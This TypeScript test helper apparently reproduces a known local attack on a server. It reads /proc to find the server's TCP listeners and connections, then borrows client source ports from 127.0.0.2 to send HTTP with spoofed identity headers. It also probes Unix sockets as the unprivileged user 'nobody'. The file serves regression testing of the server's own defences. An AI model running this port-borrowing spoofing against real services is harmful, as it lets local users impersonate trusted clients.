// The attack of issue 22 case 1, as a local process without privileges would run it against a server process: read
// the process's listening sockets and live connections from /proc, then, for every TCP listener other than the secure
// port, borrow the source port of each connection into it (bound on 127.0.0.2, since the original holds 127.0.0.1)
// and send plain HTTP naming an identity. Also the Unix-socket listeners the process holds, for the checks that only
// its own user can reach them.
import { readdirSync, readFileSync, readlinkSync } from "node:fs";
import net from "node:net";

export interface TcpSocket {
  local: { ip: string; port: number };
  remote: { ip: string; port: number };
  listening: boolean;
  established: boolean;
  inode: string;
}

/** The inodes of the sockets a process holds open. */
export function socketInodes(pid: number): Set<string> {
  const out = new Set<string>();
  for (const fd of readdirSync(`/proc/${pid}/fd`)) {
    try {
      const m = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`));
      if (m) out.add(m[1]!);
    } catch {
      // closed meanwhile
    }
  }
  return out;
}

function ipv4(hex: string): string {
  return [3, 2, 1, 0].map((i) => parseInt(hex.slice(i * 2, i * 2 + 2), 16)).join(".");
}

/** The IPv4 TCP sockets of the process's network namespace (the table any local user can read). */
export function tcpSockets(pid: number): TcpSocket[] {
  return readFileSync(`/proc/${pid}/net/tcp`, "utf8")
    .trim()
    .split("\n")
    .slice(1)
    .map((l) => l.trim().split(/\s+/))
    .map((f) => {
      const [lip, lport] = f[1]!.split(":") as [string, string];
      const [rip, rport] = f[2]!.split(":") as [string, string];
      return {
        local: { ip: ipv4(lip), port: parseInt(lport, 16) },
        remote: { ip: ipv4(rip), port: parseInt(rport, 16) },
        listening: f[3] === "0A",
        established: f[3] === "01",
        inode: f[9]!,
      };
    });
}

/** Paths of the Unix-socket listeners the process holds. */
export function unixListeners(pid: number): string[] {
  const mine = socketInodes(pid);
  return readFileSync(`/proc/${pid}/net/unix`, "utf8")
    .trim()
    .split("\n")
    .slice(1)
    .map((l) => l.trim().split(/\s+/))
    .filter((f) => f[3] === "00010000" && mine.has(f[6]!) && f[7] !== undefined)
    .map((f) => f[7]!);
}

export interface BorrowAttempt {
  listener: string;
  borrowedPort: number;
  /** curl's exit code (0: an HTTP answer came) */
  exit: number;
  status: number;
  body: string;
}

/** The inodes of the TCP listeners `pid` holds now (take it before and after starting a server: the difference is its own). */
export function tcpListenerInodes(pid: number): Set<string> {
  const mine = socketInodes(pid);
  return new Set(tcpSockets(pid).filter((s) => s.listening && mine.has(s.inode)).map((s) => s.inode));
}

/**
 * Every TCP listener of `pid` except `securePort`, attacked from each borrowed source port (or from any port when
 * nothing is connected to it): plain HTTP to `path` with the given identity headers. `only` limits the attack to
 * those listeners (inodes): a test that runs in a process shared with other files (bun test's) attacks only the
 * listeners it started, never another file's server.
 */
export async function borrowIdentity(pid: number, securePort: number, path: string, headers: Record<string, string>, only?: ReadonlySet<string>): Promise<BorrowAttempt[]> {
  const mine = socketInodes(pid);
  const all = tcpSockets(pid);
  const listeners = all.filter((s) => s.listening && mine.has(s.inode) && s.local.port !== securePort && (only === undefined || only.has(s.inode)));
  const attempts: BorrowAttempt[] = [];
  for (const l of listeners) {
    const target = l.local.ip === "0.0.0.0" ? "127.0.0.1" : l.local.ip;
    const ports = all.filter((s) => s.established && mine.has(s.inode) && s.remote.port === l.local.port).map((s) => s.local.port);
    for (const port of ports.length ? ports : [0]) {
      const args = ["curl", "-s", "-o", "-", "-w", "\n%{http_code}", "--max-time", "5", "--interface", "127.0.0.2"];
      if (port) args.push("--local-port", String(port));
      for (const [k, v] of Object.entries(headers)) args.push("-H", `${k}: ${v}`);
      args.push(`http://${target}:${l.local.port}${path}`);
      const p = Bun.spawn(args, { stdout: "pipe", stderr: "pipe" });
      const out = await new Response(p.stdout).text();
      const exit = await p.exited;
      const nl = out.lastIndexOf("\n");
      attempts.push({ listener: `${target}:${l.local.port}`, borrowedPort: port, exit, status: Number(out.slice(nl + 1)) || 0, body: out.slice(0, Math.max(0, nl)) });
    }
  }
  return attempts;
}

/** Runs curl against a Unix socket as the unprivileged user `nobody` (uid 65534); resolves with curl's exit code. */
export async function curlUnixAsNobody(socketPath: string): Promise<number> {
  const p = Bun.spawn(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "curl", "-s", "-o", "/dev/null", "--max-time", "5", "--unix-socket", socketPath, "http://x/healthz"], {
    stdout: "ignore",
    stderr: "ignore",
  });
  return p.exited;
}

/** Writes `raw` straight to a Unix socket (as this process's user) and resolves with everything read until close. */
export function rawOverUnix(socketPath: string, raw: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const c = net.connect({ path: socketPath });
    let got = "";
    c.on("data", (d) => (got += d.toString("latin1")));
    c.on("close", () => resolve(got));
    c.on("error", reject);
    c.write(raw);
  });
}
